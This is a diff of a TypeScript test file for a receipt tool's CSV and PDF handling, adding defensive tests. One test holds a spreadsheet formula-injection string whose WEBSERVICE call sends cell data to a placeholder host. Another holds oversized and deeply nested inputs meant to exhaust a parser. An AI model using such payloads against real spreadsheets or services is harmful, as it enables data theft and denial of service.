@@ -5,11 +5,12 @@ import { join } from 'node:path'
 import { deflateSync } from 'node:zlib'
 import { parse } from 'csv-parse/sync'
 import { describe, expect, it } from 'vitest'
+import { csvCell, csvComment } from '../../../src/shared/csv.ts'
 import { sha256Hex } from '../../../src/host/trade/hash.ts'
 import { receiptIdOf, type Receipt } from '../../../src/host/protocol/receipt.ts'
 import { verifyReceipt } from '../../../src/host/protocol/verify-receipt.ts'
 import { citeAnswer, citeReceipt } from '../../../src/host/receipts/cite-receipt.ts'
-import { csvCell, writeReceiptCsv } from '../../../src/host/receipts/receipt-csv.ts'
+import { writeReceiptCsv } from '../../../src/host/receipts/receipt-csv.ts'
 import { printable, receiptLayout } from '../../../src/host/receipts/receipt-pdf.ts'
 import { checkPages } from '../../../src/host/receipts/check-page.ts'
 import { parseTradeText, readAttachedReceipt } from '../../../src/host/receipts/trade-text.ts'
@@ -44,6 +45,13 @@ describe('a receipt for bookkeeping', () => {
       expect(row?.['title']).toBe(/^[=+\-@\t\r\n]/.test(title) ? `'${title}` : title)
     }
     expect(csvCell('plain')).toBe('plain')
+    // A title in the line above a saved answer: cut at any spreadsheet's separator, with quotes of its own, none of its pieces is a formula.
+    const line = csvComment('Wages 1985,=WEBSERVICE("https://x.example/?a="&B3), "=1+1"; -2\r\n=3')
+    for (const delimiter of [',', ';', '\t']) {
+      const [cells = []] = parse(line, { delimiter, relax_column_count: true }) as string[][]
+      expect(cells.filter((cell) => /^\s*"?[=+\-@]/.test(cell))).toEqual([])
+    }
+    expect(line.split('\n')).toHaveLength(1)
   })
 })
 
@@ -151,6 +159,13 @@ describe('a receipt for people', () => {
         "0x8df44ced42e6567c3dec457dd9999c33d027a5eff8591f1a5806543f235012de",
       ]
     `)
+  })
+
+  it('is looked for in a file of a stranger\'s without end or stack: many beginnings of an attachment, nesting deeper than the stack', () => {
+    const beginnings = Buffer.from(`%PDF\n${'/Type /EmbeddedFile\n/Length 1\n'.repeat(200_000)}`)
+    expect(() => readAttachedReceipt(beginnings, 'r.pdf')).toThrow(expect.objectContaining({ code: 'input.invalid' }))
+    const deep: unknown = parseTradeText(`${'['.repeat(5_000)}${']'.repeat(5_000)}`, 'f')
+    expect(verifyReceipt(deep)).toMatchObject({ ok: false, problems: [{ message: 'is nested more than 100 deep' }] })
   })
 
   it('is refused where a name stands twice, and read where strings look like names', () => {
